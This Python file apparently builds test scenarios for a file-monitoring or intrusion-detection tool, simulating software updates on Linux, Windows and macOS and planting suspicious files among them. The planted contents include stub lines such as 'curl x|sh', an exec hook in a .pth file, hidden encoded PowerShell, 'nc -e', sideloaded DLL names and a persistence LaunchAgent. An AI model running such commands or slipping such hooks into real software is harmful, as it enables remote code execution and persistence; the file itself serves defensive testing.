"""Weeks in which programs without signatures are updated in many ways, with a few files planted among them."""
import base64
import hashlib
import json
import plistlib
import shutil

from scenarios import chance, elf, job, linux, linux_week, macho, macos, pe, plist, windows, windows_week

CV = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion"


def gone(machine, *paths):
    for path in paths:
        place = machine.after / path
        shutil.rmtree(place) if place.is_dir() else place.unlink()


def wheel(put, site, name, version, files, scripts=()):
    """A package as pip installs it: its files, scripts in the folder bin three folders above, and the manifest RECORD."""
    info, record = f"{name}-{version}.dist-info", []

    def add(path, place, content, mode):
        content = content if isinstance(content, bytes) else content.encode()
        put(place, content, mode)
        digest = base64.urlsafe_b64encode(hashlib.sha256(content).digest()).decode().rstrip("=")
        record.append(f"{path},sha256={digest},{len(content)}")

    for path, content in files.items():
        add(path, f"{site}/{path}", content, 0o755 if path.endswith(".so") else 0o644)
    for script in scripts:
        add(f"../../../bin/{script}", f"{site.rsplit('/', 3)[0]}/bin/{script}", f"#!/usr/bin/python3\n# {version}\n", 0o755)
    add(f"{info}/METADATA", f"{site}/{info}/METADATA", f"Name: {name}\nVersion: {version}\n", 0o644)
    put(f"{site}/{info}/RECORD", "\n".join(record) + f"\n{info}/RECORD,,\n")


def conda(put, prefix, name, version, files):
    paths = []
    for path, content in files.items():
        put(f"{prefix}/{path}", content, 0o755)
        digest = hashlib.sha256(content).hexdigest()
        paths.append({"_path": path, "path_type": "hardlink", "sha256": digest, "sha256_in_prefix": digest})
    put(f"{prefix}/conda-meta/{name}-{version}-0.json", json.dumps({"build": "0", "name": name, "version": version,
                                                                   "paths_data": {"paths": paths}}))


def linux_tools(put, now):
    for at in range(12):
        wheel(put, "opt/venv/lib/python3.11/site-packages", f"pkg{at}", f"1.{now}",
              {f"pkg{at}/__init__.py": f"v={now}\n", f"pkg{at}/_speed.so": elf(f"speed {at} {now}"),
               f"pkg{at}/cli.py": f"#!/usr/bin/env python3\nv={now}\n"}, [f"pkg{at}"])
        conda(put, "opt/conda", f"c{at}", f"2.{now}", {f"bin/c{at}": elf(f"c{at} {now}"), f"lib/libc{at}.so.1": elf(f"libc{at} {now}")})
        tool = f"usr/local/lib/node_modules/tool{at}"
        put(tool + "/package.json", json.dumps({"name": f"tool{at}", "version": f"3.{now}.0"}))
        put(tool + "/bin/cli.js", f"#!/usr/bin/env node\n// {now}\n", 0o755)
    for at in range(6):
        for snap in ("firefox", "code"):
            put(f"snap/{snap}/{100 + now}/usr/lib/lib{at}.so", elf(f"{snap} {at} {now}"), 0o755)
        put(f"home/ann/.cargo/bin/r{at}", elf(f"cargo {at} {now}"), 0o755)
        put(f"home/ann/.local/share/Toolbox/apps/idea/bin/i{at}.sh", f"#!/bin/sh\n# {now} {at}\n", 0o755)
        digest = hashlib.sha256(str(now).encode()).hexdigest()
        put(f"var/lib/flatpak/app/org.gimp.GIMP/x86_64/stable/{digest}/files/bin/g{at}", elf(f"gimp {at} {now}"), 0o755)
    put(f"boot/initrd.img-6.1.0-{now}-amd64", b"\x1f\x8b\x08" + chance(3000))
    put(f"home/ann/.nvm/versions/node/v20.{now}.0/bin/node", elf(f"node {now}"), 0o755)


def linux_updates(machine):
    linux(machine)
    linux_tools(machine.old, 1)
    machine.copy()
    linux_week(machine)
    gone(machine, "snap/firefox/101", "snap/code/101", "var/lib/flatpak/app/org.gimp.GIMP")
    for at in range(12):
        gone(machine, f"opt/venv/lib/python3.11/site-packages/pkg{at}-1.1.dist-info", f"opt/conda/conda-meta/c{at}-2.1-0.json")
    linux_tools(machine.new, 2)
    machine.plant("opt/venv/lib/python3.11/site-packages/pkg3/cli.py", "#!/usr/bin/env python3\nimport os; os.system('curl x|sh')\n")
    machine.plant("opt/venv/lib/python3.11/site-packages/zz.pth", "import os; exec(open('/tmp/.x').read())\n")
    machine.plant("opt/conda/bin/c4", elf("trojan"), 0o755)
    machine.plant("opt/conda/lib/libcx.so.1", elf("planted"), 0o755)
    machine.plant("usr/local/lib/node_modules/tool5/bin/.c", elf("planted"), 0o755)
    machine.plant("home/ann/.cargo/bin/cargo-x", elf("planted"), 0o755)


def windows_programs(put, now):
    users, programs = "Users/ann/AppData/", "Program Files/"
    for at in range(9):
        put(f"{programs}Editor/plugins/p{at}.dll", pe(f"plugin {at} {now}"))
        put(f"{programs}Packer/z{at}.dll", pe(f"packer {at} {now}"))
        put(f"{programs}Player/plugins/codec/lib{at}.dll", pe(f"codec {at} {now}"))
        put(f"{programs}Player/plugins/access/lib{at}.dll", pe(f"access {at} {now}"))
        put(f"{programs}Microsoft Office/root/Office16/o{at}.dll", pe(f"office {at} {now}"))
        put(f"{programs}dotnet/shared/Microsoft.NETCore.App/8.0.{now}/n{at}.dll", pe(f"core {at} {now}"))
        put(f"{users}Local/Programs/Code/c{at}.dll", pe(f"code {at} {now}"))
        put(f"{users}Local/Chat/app-1.0.901{now}/d{at}.dll", pe(f"chat {at} {now}"))
        put(f"{users}Local/Microsoft/OneDrive/23.{now}.10/o{at}.dll", pe(f"drive {at} {now}"))
        put(f"{users}Roaming/npm/tool{at}.cmd", f"@echo off\r\nrem {now} {at}\r\n")
        put(f"ProgramData/Microsoft/Windows Defender/Platform/4.18.{now}.6-0/Mp{at}.dll", pe(f"defender {at} {now}"))
        put(f"Windows/Microsoft.NET/assembly/GAC_MSIL/A{at}/v4.0_4.0.0.0__b77a/A{at}.dll", pe(f"gac {at} {now}"))
        digest = hashlib.md5(f"{at} {now}".encode()).hexdigest()
        put(f"Windows/assembly/NativeImages_v4.0.30319_64/A{at}/{digest}/A{at}.ni.dll", pe(f"native {at} {now}"))
        wheel(put, users + "Local/Programs/Python/Python311/Lib/site-packages", f"pkg{at}", f"1.{now}",
              {f"pkg{at}/native.dll": pe(f"native {at} {now}"), f"pkg{at}/cli.py": f"v={now}\n"})


def windows_updates(machine):
    windows(machine)
    uninstall = CV + r"\Uninstall\Editor"
    windows_programs(machine.old, 1)
    machine.key("before", uninstall, ("DisplayVersion", "8.1"), ("DisplayName", "Editor"))
    machine.copy()
    windows_week(machine)
    machine.registry["after"] = [(key, values) for key, values in machine.registry["after"] if key != uninstall]
    machine.key("after", uninstall, ("DisplayVersion", "8.2"), ("DisplayName", "Editor"))
    gone(machine, "Users/ann/AppData/Local/Chat/app-1.0.9011", "ProgramData/Microsoft/Windows Defender/Platform/4.18.1.6-0")
    for at in range(9):
        gone(machine, f"Users/ann/AppData/Local/Programs/Python/Python311/Lib/site-packages/pkg{at}-1.1.dist-info")
    windows_programs(machine.new, 2)
    machine.plant("Program Files/App/version.dll", pe("sideloaded"))
    machine.plant("Program Files/Editor/plugins/mimeTool.dll", pe("planted plugin"))
    machine.plant("Program Files/Packer/helper.exe", pe("planted packer"))
    machine.plant("Users/ann/AppData/Local/Chat/app-1.0.9012/profapi.dll", pe("planted chat"))
    machine.plant("Users/ann/AppData/Roaming/npm/update.cmd", "@echo off\r\npowershell -w hidden -enc AAAA\r\n")
    machine.plant("ProgramData/Microsoft/Windows Defender/Platform/4.18.2.6-0/mpclient2.dll", pe("planted defender"))
    machine.plant("Users/ann/AppData/Local/Programs/Python/Python311/Lib/site-packages/pkg2/native.dll", pe("trojan"))


def mac_programs(put, now):
    for at in range(12):
        keg = f"opt/homebrew/Cellar/f{at}/1.{now}.0/"
        put(f"{keg}bin/f{at}", macho(f"f{at} {now}"), 0o755)
        put(f"{keg}lib/libf{at}.dylib", macho(f"lib {at} {now}"))
        put(f"{keg}bin/f{at}-config", f"#!/bin/sh\n# {now} {at}\n", 0o755)
        wheel(put, "opt/homebrew/lib/python3.12/site-packages", f"pkg{at}", f"1.{now}", {f"pkg{at}/_s.so": macho(f"so {at} {now}")},
              [f"pkg{at}"])
    for app in ("Firefox", "Slack", "Zoom"):
        contents, digests = f"Applications/{app}.app/Contents/", {}
        put(contents + "Info.plist", plist(f"<key>CFBundleShortVersionString</key><string>1.{now}</string>"))
        put(contents + "MacOS/" + app, macho(f"{app} {now}"), 0o755)
        for at in range(4):
            put(f"{contents}Frameworks/F{at}.framework/Versions/A/F{at}", macho(f"{app} {at} {now}"), 0o755)
            digests[f"Resources/r{at}.txt"] = {"hash2": hashlib.sha256(f"{at} {now}".encode()).digest()}
            put(f"{contents}Resources/r{at}.txt", f"{at} {now}")
        put(contents + "_CodeSignature/CodeResources", plistlib.dumps({"files2": digests}))


def macos_updates(machine):
    macos(machine)
    mac_programs(machine.old, 1)
    machine.copy()
    for at in range(12):
        gone(machine, f"opt/homebrew/Cellar/f{at}/1.1.0", f"opt/homebrew/lib/python3.12/site-packages/pkg{at}-1.1.dist-info")
    mac_programs(machine.new, 2)
    machine.plant("opt/homebrew/Cellar/f3/1.2.0/bin/.helper", macho("planted"), 0o755)
    machine.plant("Applications/Slack.app/Contents/MacOS/.s", macho("planted too"), 0o755)
    machine.plant("opt/homebrew/bin/brew-x", "#!/bin/sh\nnc -e\n", 0o755)
    machine.plant("opt/homebrew/lib/python3.12/site-packages/pkg2/_s.so", macho("trojan"))
    machine.plant("Library/LaunchAgents/com.x.plist", job("com.x", "/opt/homebrew/Cellar/f3/1.2.0/bin/.helper"))


SCENARIOS = {"Linux tools updated": (linux_updates, False), "Windows programs updated": (windows_updates, True),
             "macOS programs updated": (macos_updates, False)}
